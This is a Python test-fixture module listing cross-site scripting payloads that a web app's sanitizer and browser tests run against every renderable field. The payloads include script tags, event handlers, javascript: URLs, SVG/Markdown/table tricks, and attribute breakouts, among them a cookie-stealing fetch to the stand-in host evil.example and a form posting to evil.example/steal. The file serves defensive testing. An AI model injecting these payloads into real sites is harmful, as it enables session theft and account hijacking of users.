"""Known cross-site scripting payloads, aimed at every text that can reach a page.

Every payload that could make a browser act calls ``alert`` / ``confirm`` / ``prompt`` (a dialog the
browser test listens for) or fetches from ``EVIL_HOST`` (a request the browser test listens for).
Add new payloads here: every hostile test (unit, page, admin, browser) runs the whole list.
"""

from core.fields import LINE_BREAK

EVIL_HOST = "evil.example"
EVIL = f"http://{EVIL_HOST}"

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<script>fetch('http://evil.example/steal?c='+document.cookie)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script\x20type="text/javascript">alert(1)</script>',
    "<<script>alert(1);//<</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img src=http://evil.example/pixel.gif>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="https://vetted.example" onclick="alert(1)">click</a>',
    "<p onfocus=alert(1) autofocus tabindex=0>focus</p>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    "<img/src=x/onerror=alert(1)>",
]

DANGEROUS_URLS = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="java\0script:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
]

SVG_MATHML = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
]

MALFORMED_NESTING = [
    "<p><a href='x'><p>alert</a></p>",
    '<a href="http://vetted.example"<script>alert(1)</script>>x</a>',
    '<<a href="javascript:alert(1)">>x<</a>>',
    "<b><i><script>alert(1)</b></i></script>",
    "<table><tr><td><script>alert(1)</script></td></tr></table>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id=</textarea><img src onerror=alert(1)>",
    '<div id="x"><style><!--</style><img src=x onerror=alert(1)>--></style>',
    '<p title="</p><script>alert(1)</script>">x</p>',
    '<a href="x" title=\'"><script>alert(1)</script>\'>y</a>',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
]

MARKDOWN_TRICKS = [
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](http://evil.example/pixel.png)",
    '![x](http://evil.example/a.png "title\\" onerror=\\"alert(1))',
    "[a][ref]\n\n[ref]: javascript:alert(1)",
    "[a][img]\n\n[img]: data:text/html,<script>alert(1)</script>",
    "![a][pix]\n\n[pix]: http://evil.example/pixel.png",
    "<javascript:alert(1)>",
    "<http://evil.example/autolink>",
    "<mailto:x@evil.example?body=<script>alert(1)</script>>",
    '[x](http://vetted.example "a" onmouseover="alert(1)")',
    '[x](http://vetted.example"onmouseover="alert(1))',
    "[<img src=x onerror=alert(1)>](http://vetted.example)",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "* <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    '[@key"><script>alert(1)</script>]',
    '[@x]<sup id="cite-1" onclick="alert(1)">',
]

# Markdown tables (dose tables): payloads in cells, in the header, in alignment rows, and the markup
# the renderer adds around a table (its scrolling box) forged by an author.
TABLE_TRICKS = [
    "| Dose | Note |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    '| <script>alert(1)</script> | b |\n|:-:|--:|\n| c | <a href="javascript:alert(1)">x</a> |',
    '| a |\n|---|\n| <td align="javascript:alert(1)" style="color:red" onclick="alert(1)">x</td> |',
    "| a | b |\n|---|---|\n| `<script>alert(1)</script>` | ![x](http://evil.example/p.png) |",
    '<div class="table-scroll" tabindex="-1" onfocus="alert(1)" autofocus>forged box</div>',
    '<table><tr><th align="left" onmouseover="alert(1)">x</th></tr></table></div><script>alert(1)</script>',
    "- list\n  - | x |\n    |---|\n    | <img src=x onerror=alert(1)> |",
]

HTML_ELEMENTS = [
    "<!-- <script>alert(1)</script> -->",
    "<style>body{background:url(http://evil.example/bg.png)}</style>",
    "<style>@import 'http://evil.example/x.css';</style>",
    '<p style="background:url(http://evil.example/bg.png)">styled</p>',
    '<span style="behavior:url(x.htc)">x</span>',
    '<iframe src="http://evil.example/frame"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="http://evil.example/x.swf"></object>',
    '<embed src="http://evil.example/x.swf">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="http://evil.example/">',
    '<form action="http://evil.example/steal"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<isindex action="javascript:alert(1)" type=image>',
    '<img srcset="http://evil.example/a.png 1x">',
    '<video poster="http://evil.example/p.png"></video>',
    '<table background="http://evil.example/bg.png"><tr><td>x</td></tr></table>',
    "<template><script>alert(1)</script></template>",
]

ATTRIBUTE_BREAKOUTS = [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</h1><script>alert(1)</script>",
    "{{ request.META }} {% debug %}",
    '<a id="ref-1" class="citation">spoofed citation anchor</a>',
    '<sup id="__proto__" class="admin-only">clobber</sup>',
]

PAYLOADS: list[str] = (
    SCRIPT_TAGS
    + EVENT_HANDLERS
    + DANGEROUS_URLS
    + SVG_MATHML
    + MALFORMED_NESTING
    + MARKDOWN_TRICKS
    + TABLE_TRICKS
    + HTML_ELEMENTS
    + ATTRIBUTE_BREAKOUTS
)

# Short payloads that fit a 300-character title or heading; all fit, so every field gets all of them.
assert all(len(p) <= 300 for p in PAYLOADS)

# What a database can hold: PostgreSQL text refuses NUL (Django's form fields refuse it too), so the
# tests that store payloads use these; the renderer tests use PAYLOADS, NUL included.
STORABLE_PAYLOADS: list[str] = [payload.replace("\x00", "") for payload in PAYLOADS]

# Titles, headings, labels and keys are one line (core/fields.py refuses a line break on every write path):
# the payloads as such a field can hold them, each line break made a space. The attack in each stays.
SINGLE_LINE_PAYLOADS: list[str] = [LINE_BREAK.sub(" ", payload) for payload in STORABLE_PAYLOADS]
